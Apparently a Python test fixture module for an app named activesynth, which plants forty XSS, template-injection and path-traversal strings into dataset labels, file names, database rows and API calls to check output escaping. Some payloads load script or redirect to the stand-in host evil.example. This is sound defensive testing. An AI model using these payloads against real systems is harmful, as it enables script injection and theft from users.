"""Forty texts that would like to be more than text, and a campaign that carries them everywhere.

Each calls ``hit`` with its own number where it is run: as markup, from an attribute, as an
address, in a style, in JSON inside of a script element, or as what plotly takes for HTML.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from contextlib import closing
from pathlib import Path
from typing import Any
from urllib.parse import quote

import numpy as np
import psycopg2
import yaml

from activesynth.client.actions import Batch, Declared
from activesynth.client.client import Client
from served_pages import ROOT
from tiny_campaign import SMALLEST

_SHAPES = (
    "<script>hit(#)</script>",
    "</script><script>hit(#)</script>",
    "<ScRiPt src=//evil.example/#.js></sCrIpT>",
    "<img src=x onerror=hit(#)>",
    "<img src=//evil.example/#.png>",
    "<svg onload=hit(#)>",
    "<svg><script>hit(#)</script></svg>",
    "<svg><a xlink:href='javascript:hit(#)'>x</a></svg>",
    "<body onload=hit(#)>",
    "<details open ontoggle=hit(#)>x",
    "<input autofocus onfocus=hit(#)>",
    "<video><source onerror=hit(#)></video>",
    "<iframe srcdoc='<script>parent.hit(#)</script>'>",
    "<iframe src=javascript:parent.hit(#)>",
    "<object data=javascript:hit(#)>",
    "<a href=javascript:hit(#)>click</a>",
    "<a href='https://evil.example/#'>click</a>",
    "<form action=//evil.example/#><button>go",
    "<meta http-equiv=refresh content='0;url=//evil.example/#'>",
    "<base href=//evil.example/#/>",
    "<link rel=stylesheet href=//evil.example/#.css>",
    "<style>@import '//evil.example/#.css'</style>",
    "<div style='background:url(//evil.example/#)'>x</div>",
    '"><script>hit(#)</script>',
    "'><script>hit(#)</script>",
    '" onmouseover="hit(#)" autofocus onfocus="hit(#)" x="',
    "' onfocus='hit(#)' autofocus x='",
    "` onfocus=hit(#) autofocus x=`",
    '"};hit(#);var x={"a":"',
    "\\u003cscript\\u003ehit(#)\\u003c/script\\u003e",
    "&lt;script&gt;hit(#)&lt;/script&gt;",
    "javascript:hit(#)",
    "data:text/html,<script>hit(#)</script>",
    "{{7*7}}{{hit(#)}}${hit(#)}<%= hit(#) %>",
    "{% for x in ().__class__.__base__.__subclasses__() %}#{% endfor %}",
    "<!--#--><![CDATA[<script>hit(#)</script>]]>-->",
    "</title><script>hit(#)</script>",
    "</textarea></select><img src=x onerror=hit(#)>",
    "<b>fat #</b><br><sup>x</sup><span style='color:red'>red</span>",
    "../../../etc/passwd?#<script>hit(#)</script>",
)
TEXTS = tuple(shape.replace("#", str(number)) for number, shape in enumerate(_SHAPES))
TURNED = "\u202egnp.<script>hit(40)</script>\u2066\u200b"
"""Turned around when it is shown; no name of a class, for those have to be printable."""
CAMPAIGN = "hostile"
TRAINING = {"members": 2, "steps": 60, "pretrain_steps": 2, "width": 8}
PERSON = TEXTS[23]
EACH = 16


def write_campaign(folder: Path) -> None:
    """Write pictures whose classes, notes and file names are the texts, and the campaign's file."""
    random = np.random.default_rng(5)
    labels = np.repeat(np.arange(len(TEXTS)), EACH)
    kinds = random.integers(0, 200, (len(TEXTS), 8, 8))
    pictures = kinds[labels] + random.integers(0, 40, (len(labels), 8, 8))
    notes = [TEXTS[(label * 7 + 3) % len(TEXTS)] for label in labels]
    np.savez(
        folder / "hostile.npz",
        images=pictures.astype(np.uint8),
        labels=labels,
        names=np.array(TEXTS),
        note=np.array(notes),
        path=np.array([f"{TEXTS[label]}.png" for label in labels]),
    )
    source = {
        "path": str(folder / "hostile.npz"), "x": "images", "y": "labels", "classes": "names",
        "attributes": ["note", "path"],
    }  # fmt: skip
    document = {
        **{name: part for name, part in SMALLEST.items() if name != "sampling"},
        # Trained long enough to have weaknesses, for which samples are made.
        "trainer": {**SMALLEST["trainer"], "parameters": TRAINING},
        "name": CAMPAIGN,
        "source": {"name": "npz", "parameters": source},
        "audits": {"run": []},
    }
    (folder / "campaigns").mkdir()
    (folder / "campaigns" / f"{CAMPAIGN}.yaml").write_text(yaml.safe_dump(document))


def run_campaign(folder: Path, database_url: str, *options: str, code: int = 0) -> None:
    """Run an iteration by the command; its answers come from an oracle, or it waits for people."""
    kept = {name: value for name, value in os.environ.items() if "ACTIVESYNTH" not in name}
    done = subprocess.run(
        [sys.executable, "-m", "activesynth.cli", "run", CAMPAIGN, *options],
        cwd=folder,
        env={
            **kept,
            "PYTHONPATH": str(ROOT),
            "ACTIVESYNTH_DATABASE_URL": database_url,
            "ACTIVESYNTH_HOME": str(folder),
        },
        capture_output=True,
        text=True,
    )
    assert done.returncode == code, done.stderr


def plant(database_url: str) -> None:
    """Put the texts where the loop writes its own words, and people theirs."""
    texts = json.dumps([*TEXTS, TURNED])
    statements = (
        "CREATE TEMP TABLE bad AS SELECT t.text, (t.place - 1)::int AS place "
        "FROM jsonb_array_elements_text(%(texts)s) WITH ORDINALITY AS t(text, place)",
        """INSERT INTO activesynth.weaknesses
           SELECT (jsonb_populate_record(w, jsonb_build_object(
               'id', b.text, 'title', b.text, 'key', b.text))).*
           FROM bad b, activesynth.weaknesses w
           WHERE w.id = (SELECT min(id) FROM activesynth.weaknesses)""",
        """UPDATE activesynth.samples s
           SET verdict_reason = b.text, weakness = b.text,
               scores = s.scores || jsonb_build_object(b.text, b.text)
           FROM bad b, (SELECT id, row_number() OVER (ORDER BY id) AS place
                        FROM activesynth.samples WHERE origin = 'synthetic') n
           WHERE s.id = n.id AND b.place = n.place %% %(count)s""",
        """UPDATE activesynth.annotations a SET annotator = b.text
           FROM bad b WHERE b.place = abs(hashtext(a.item)) %% %(count)s""",
        "UPDATE activesynth.iterations SET reason = (SELECT string_agg(text, ' ') FROM bad)",
    )
    values = {"texts": texts, "count": len(TEXTS) + 1}
    address = database_url.replace("+psycopg2", "")
    with (
        closing(psycopg2.connect(address)) as connection,
        connection,
        connection.cursor() as cursor,
    ):
        for statement in statements:
            cursor.execute(statement, values)


def declare_and_recall(url: str, sample: str) -> None:
    """Say the texts as reasons, as a person whose name is one of them."""
    with Client(url, token=quote(PERSON, safe="")) as client:
        for number, text in enumerate([*TEXTS, TURNED]):
            client.declare(CAMPAIGN, Declared(label=TEXTS[number % len(TEXTS)], reason=text))
            client.withdraw(CAMPAIGN, f"class:{number % len(TEXTS)}", text)
        client.declare(CAMPAIGN, Declared(label=TEXTS[0], reason=TURNED))
        done = client.recall(
            CAMPAIGN, Batch(samples=[sample], reason=" ".join(TEXTS)[:500], do=True)
        )
        assert done.is_done


def rows_of(database_url: str, query: str) -> list[tuple[Any, ...]]:
    with closing(psycopg2.connect(database_url.replace("+psycopg2", ""))) as connection:
        cursor = connection.cursor()
        cursor.execute(query)
        return cursor.fetchall()
